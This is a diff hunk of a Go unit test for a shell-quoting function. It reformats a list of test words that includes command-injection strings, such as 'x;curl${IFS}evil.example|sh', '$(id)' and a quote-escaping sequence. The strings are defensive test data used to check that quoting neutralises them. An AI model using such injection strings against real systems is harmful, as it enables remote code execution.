@@ -15,7 +15,8 @@ func TestQuote(t *testing.T) {
 		t.Skip("no shell")
 	}
 	for _, word := range []string{
-		"", "registry.example.com:5000/team/app@sha256:0123", "x;curl${IFS}evil.example|sh", "$(id)", "`id`", "a b", "it's", "''", `'\''; id; '`,
+		"", "registry.example.com:5000/team/app@sha256:0123", "x;curl${IFS}evil.example|sh", "$(id)", "`id`", "a b",
+		"it's", "''", `'\''; id; '`,
 		"a\nid", "a\\", `"`, "*", "[::1]:5000", "~", "a&b", "#x", "!x", "größe", "a=b", "-x",
 	} {
 		out, err := exec.CommandContext(t.Context(), sh, "-c", "printf '<%s>' x"+shell.Quote(word)).Output()
